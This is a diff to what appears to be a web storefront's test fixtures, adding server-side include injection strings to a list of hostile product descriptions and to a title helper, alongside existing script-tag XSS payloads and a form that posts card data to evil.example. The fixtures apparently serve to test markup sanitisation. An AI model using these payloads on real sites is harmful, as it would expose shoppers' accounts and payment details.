@@ -15,11 +15,15 @@ export const HOSTILE_DESCRIPTION_HTML = [
   '<svg><script>alert(3)</script></svg>',
   '<form action="https://evil.example/steal"><input name="card"></form>',
   '<p onclick="alert(4)" onmouseover="alert(5)">Hover me</p>',
+  // nginx fills server-side includes as it serves a page (src/lib/shell/shell-parts.ts): one
+  // left in a page would put the shopper's account into it.
+  '<!--# include virtual="/api/customer/account" --><p>Fits <!--#echo var="remote_addr" --> all</p>',
 ].join('\n');
 
 /** A title with the inline markup the spec allows on desktop, and some it does not. */
 export const marked = (title: string): string =>
-  title.replace(/^(\S+)/, '<strong>$1</strong>') + '<script>alert("title")</script>';
+  title.replace(/^(\S+)/, '<strong>$1</strong>') +
+  '<script>alert("title")</script><!--# include virtual="/api/customer/account" -->';
 
 /** Which demo products carry hostile markup: index 19, then every 500th after it. */
 export const isHostileIndex = (index: number): boolean => index % 500 === 19;
